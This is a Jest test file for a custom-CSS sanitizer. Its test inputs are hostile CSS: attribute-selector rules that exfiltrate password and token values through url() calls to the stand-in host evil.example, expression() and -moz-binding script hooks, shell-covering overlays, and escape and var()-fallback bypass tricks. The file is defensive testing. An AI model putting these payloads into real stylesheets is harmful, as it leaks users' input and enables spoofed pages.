import { describe, expect, it } from '@jest/globals';
import { CUSTOM_CSS_SCOPE, sanitizeCustomCss } from './custom-css.ts';

const reasons = (source: string) => sanitizeCustomCss(source).removed.map((removal) => removal.reason);

describe('sanitizeCustomCss', () => {
  it('keeps allowed rules, scoped under the organization’s content root, and drops comments', () => {
    const { css, removed } = sanitizeCustomCss(
      '/* brand */\n.hero h1, .card { color: #0f766e; font-weight: 700 !important; }\n' +
        '@media (max-width: 600px) { .card { padding: 8px 12px } }',
    );
    expect(css).toBe(
      `${CUSTOM_CSS_SCOPE} .hero h1,${CUSTOM_CSS_SCOPE} .card{color:#0f766e;font-weight:700!important}\n` +
        `@media (max-width:600px){${CUSTOM_CSS_SCOPE} .card{padding:8px 12px}}`,
    );
    expect(removed).toEqual([]);
    // Stored sanitized and sanitized again when served: the second pass changes nothing.
    expect(sanitizeCustomCss(css)).toEqual({ css, removed: [] });
  });

  it('removes @import, @font-face and every other at-rule but @media and @supports', () => {
    const { css, removed } = sanitizeCustomCss(
      '@import url("https://evil.example/x.css");\n@import "https://evil.example/y.css";\n' +
        '@font-face { font-family: X; src: url(https://evil.example/f.woff) }\n' +
        '@namespace svg url(http://www.w3.org/2000/svg);\n@supports (display: grid) { p { color: red } }',
    );
    expect(css).toBe(`@supports (display:grid){${CUSTOM_CSS_SCOPE} p{color:red}}`);
    expect(removed.map((removal) => [removal.reason, removal.line])).toEqual([
      ['at_rule', 1],
      ['at_rule', 2],
      ['at_rule', 3],
      ['at_rule', 4],
    ]);
  });

  it('defeats attribute-selector exfiltration: no url() leaves the firm’s own assets', () => {
    const hostile =
      'input[name=password][value^="a"] { background: url(https://evil.example/?a) }\n' +
      'input[value$="b"] { background-image: URL( "//evil.example/b" ) }\n' +
      'a[href*=token] { background-image: image-set("https://evil.example/c" 1x) }\n' +
      'p { background: url(/assets/org/logo.png) }';
    expect(sanitizeCustomCss(hostile).css).toBe('');
    expect(reasons(hostile)).toEqual(['value', 'value', 'value', 'value']);
    const own = sanitizeCustomCss('p { background: url(/assets/org/logo.png) no-repeat }', {
      isOwnAsset: (url) => url.startsWith('/assets/org/'),
    });
    expect(own.css).toBe(`${CUSTOM_CSS_SCOPE} p{background:url(/assets/org/logo.png)no-repeat}`);
  });

  it('removes script-like features: expression(), behavior, -moz-binding, attr() and custom properties', () => {
    const source =
      'p { width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#b) }\n' +
      'p::after { content: attr(data-secret) }\n' +
      'p { --x: url(https://evil.example/v); color: var(--mantine-color-blue-6) }\n' +
      'p { color: expression(alert(2)) }';
    const { css, removed } = sanitizeCustomCss(source);
    expect(css).toBe(`${CUSTOM_CSS_SCOPE} p{color:var(--mantine-color-blue-6)}`);
    expect(removed.map((removal) => removal.reason)).toEqual([
      'property',
      'property',
      'property',
      'property',
      'property',
      'value',
    ]);
  });

  it('removes selectors that try to leave the content root, keeping the rest of their rule', () => {
    const source =
      'html body .x, :root .y, body { color: red }\n' +
      '~ .sidebar, + header, > nav { color: red }\n' +
      ':host, :scope .z { color: red }\n' +
      '.ok, & .nested { color: teal }';
    const { css, removed } = sanitizeCustomCss(source);
    expect(css).toBe(`${CUSTOM_CSS_SCOPE} .ok{color:teal}`);
    expect(removed.filter((removal) => removal.reason === 'selector')).toHaveLength(9);
  });

  it('cannot cover the shell: no positioning, stacking, transforms, margins or generated content', () => {
    const source =
      '.banner { position: fixed; inset: 0; top: 0; z-index: 99999; transform: translateY(-200px); ' +
      'margin-top: -400px; display: none; content: "Verified"; color: navy }';
    expect(sanitizeCustomCss(source).css).toBe(`${CUSTOM_CSS_SCOPE} .banner{color:navy}`);
    expect(reasons(source)).toEqual(Array.from({ length: 8 }, () => 'property'));
  });

  it('drops what the parser cannot read, without losing the valid rules around it', () => {
    const { css, removed } = sanitizeCustomCss('.a { color: red }\n.b { color: ; }\n.c { color: blue }');
    expect(css).toBe(`${CUSTOM_CSS_SCOPE} .a{color:red}\n${CUSTOM_CSS_SCOPE} .c{color:blue}`);
    expect(removed).toEqual([{ reason: 'value', css: 'color:', line: 2 }]);
  });

  it('reads escapes as the browser would: an escaped property name is not an allowed one', () => {
    const source = '.a { posit\\69 on: fixed; col\\6fr: red; background: u\\72l(https://evil.example/e) }';
    expect(sanitizeCustomCss(source).css).toBe('');
  });
});

describe('sanitizeCustomCss: var() fallbacks and what the parser leaves unread', () => {
  const ownAsset = { isOwnAsset: (url: string) => url.startsWith('/assets/org/') };

  it('reads a var() fallback as a value: no url() or image-set() hides in one', () => {
    const hostile = [
      'input[value^="a"] { background-image: var(--x, url(https://evil.example/a)) }',
      'input[value^="b"] { background-image: var(--x, image-set("https://evil.example/b" 1x)) }',
      'input[value^="c"] { background: var(--x, var(--y, url(https://evil.example/c))) }',
      'input[value^="d"] { padding: calc(1px + var(--x, url(https://evil.example/d))) }',
      'input[value^="e"] { background: linear-gradient(red, var(--x, url(https://evil.example/e))) }',
      'input[value^="f"] { background: var(--x,/**/url(https://evil.example/f)) }',
      'input[value^="g"] { background: var(/**/--x/**/,url(https://evil.example/g)) }',
      'input[value^="h"] { background: var(--x, [url(https://evil.example/h)]) }',
      'input[value^="i"] { background: var(--x, url(/assets/org/logo.png)) }',
    ];
    for (const source of hostile) {
      expect({ source, ...sanitizeCustomCss(source) }).toMatchObject({ source, css: '' });
      expect({ source, reasons: reasons(source) }).toEqual({ source, reasons: ['value'] });
    }
  });

  it('refuses every function outside the list wherever it sits, escaped or split by a comment', () => {
    const hostile = [
      'p { background: image("https://evil.example/a") }',
      'p { background: cross-fade(url(https://evil.example/b), red 50%) }',
      'p { background: element(#secret) }',
      'p { background: -webkit-image-set("https://evil.example/c" 1x) }',
      'p { background: src("https://evil.example/d") }',
      'p { background: var(--x, src("https://evil.example/e")) }',
      'p { background: var(--x, -webkit-image-set("https://evil.example/f" 1x)) }',
      'p { background: var(--x, cross-fade(red, blue)) }',
      'p { background: var(--x, attr(data-secret url)) }',
      'p { background: var(--x, u\\72l(https://evil.example/g)) }',
      'p { background: var(--x, \\75 rl(https://evil.example/h)) }',
      'p { background: var(--x, u/**/rl(https://evil.example/i)) }',
      'p { background: v\\61r(--x, url(https://evil.example/j)) }',
      'p { color: var(x, red) }',
    ];
    for (const source of hostile) {
      expect({ source, css: sanitizeCustomCss(source).css }).toEqual({ source, css: '' });
    }
  });

  it('refuses a fallback the parser cannot read as a value, and fallbacks nested past four', () => {
    const source =
      '.a { background: var(--x, {url(https://evil.example/a)}) }\n' +
      '.b { color: var(--x, red !important) }\n' +
      '.c { color: var(--x, red}\n.d { background: url(https://evil.example/d) }';
    expect(sanitizeCustomCss(source).css).toBe('');
    expect(reasons(source)).toEqual(['unparsable', 'unparsable', 'unparsable']);
    const nested = (depth: number) => `.e { color: ${'var(--x, '.repeat(depth)}red${')'.repeat(depth)} }`;
    expect(sanitizeCustomCss(nested(4)).css).toBe(
      `${CUSTOM_CSS_SCOPE} .e{color:var(--x,var(--x,var(--x,var(--x,red))))}`,
    );
    expect(reasons(nested(5))).toEqual(['unparsable']);
  });

  it('removes selectors and at-rules the parser left unread', () => {
    const source =
      '::part(shell-header) .x, :unknown(body) .y, ::cue(p), .ok { color: red }\n' +
      '@media (foo: url(https://evil.example/m)) { .a { color: red } }\n' +
      '@supports (color: var(--x, url(https://evil.example/s))) { .b { color: red } }';
    const { css, removed } = sanitizeCustomCss(source);
    expect(css).toBe(`${CUSTOM_CSS_SCOPE} .ok{color:red}`);
    expect(removed.map((removal) => [removal.reason, removal.line])).toEqual([
      ['unparsable', 1],
      ['unparsable', 1],
      ['unparsable', 1],
      ['unparsable', 2],
      ['unparsable', 3],
    ]);
  });

  it('keeps legitimate CSS: var() with a colour fallback, gradients, the firm’s own asset', () => {
    const source =
      '.hero { color: var(--brand, #0f766e); border-color: var(--a, var(--b, rgb(0 0 0 / 50%))) }\n' +
      '.card { background: linear-gradient(90deg, var(--mantine-color-blue-6, navy), transparent) }\n' +
      '.pad { padding: calc(1rem + var(--gap, 2px)); box-shadow: var(--shadow,) }\n' +
      '.logo { background: url(/assets/org/logo.png) no-repeat, var(--hero, url(/assets/org/hero.png)) }\n' +
      '@media (width >= 600px) { .hero { color: var(--brand, teal) } }';
    const { css, removed } = sanitizeCustomCss(source, ownAsset);
    expect(removed).toEqual([]);
    expect(css).toBe(
      [
        `${CUSTOM_CSS_SCOPE} .hero{color:var(--brand,#0f766e);border-color:var(--a,var(--b,rgb(0 0 0/50%)))}`,
        `${CUSTOM_CSS_SCOPE} .card{background:linear-gradient(90deg,var(--mantine-color-blue-6,navy),transparent)}`,
        `${CUSTOM_CSS_SCOPE} .pad{padding:calc(1rem + var(--gap,2px));box-shadow:var(--shadow,)}`,
        `${CUSTOM_CSS_SCOPE} .logo{background:url(/assets/org/logo.png)no-repeat,var(--hero,url(/assets/org/hero.png))}`,
        `@media (width>=600px){${CUSTOM_CSS_SCOPE} .hero{color:var(--brand,teal)}}`,
      ].join('\n'),
    );
    // Served as stored: the second pass changes nothing.
    expect(sanitizeCustomCss(css, ownAsset)).toEqual({ css, removed: [] });
  });
});
